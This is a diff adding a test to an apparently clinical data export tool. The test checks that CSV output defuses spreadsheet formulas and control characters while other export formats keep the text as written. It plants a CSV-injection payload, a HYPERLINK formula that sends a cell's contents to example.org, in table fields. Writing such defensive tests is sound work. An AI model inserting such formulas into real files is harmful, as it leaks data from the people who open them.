@@ -100,6 +100,22 @@ def test_static_facts_birth_and_admissions(tmp_path):
     assert ((entered - born).sort_index() == youngest.sort_index()).all()
 
 
+def test_a_csv_for_people_holds_no_formula(tmp_path):
+    "What a table or a note says is shown, not computed, in csv; what machines read is the text to the letter."
+    cohort = Cohort(shutil.copytree(build_cohort(SAMPLE, out=tmp_path / 'cohort').dir, tmp_path / 'odd'))
+    said = '=HYPERLINK("https://example.org/?" & A1)'
+    for name, column, text in (('stays', 'race', said), ('reports', 'text', f'{said}\x07\r\nFINDINGS: none.')):
+        table = pd.read_parquet(cohort.dir / f'{name}.parquet')
+        table[column] = text
+        table.to_parquet(cohort.dir / f'{name}.parquet')
+    out = export(cohort, 'csv', tmp_path / 'csv')
+    assert set(pd.read_csv(out / 'stays.csv')['race']) == {f"'{said}"}
+    assert set(pd.read_csv(out / 'reports.csv')['text']) == {f"'{said} \nFINDINGS: none."}
+    events = pd.concat(map(pd.read_parquet, export(cohort, 'meds', tmp_path / 'meds').glob('data/*/*.parquet')))
+    assert f'RACE//{said}' in set(events['code']) and f'{said}\x07\r\nFINDINGS: none.' in set(events['text_value'])
+    assert set(pd.read_csv(export(cohort, 'medfuse', tmp_path / 'medfuse') / 'root' / 'all_stays.csv')['ethnicity']) == {said}
+
+
 COMA = {'GCS eye': 4, 'GCS motor': 6, 'GCS verbal': 5}  # highest score
 
 
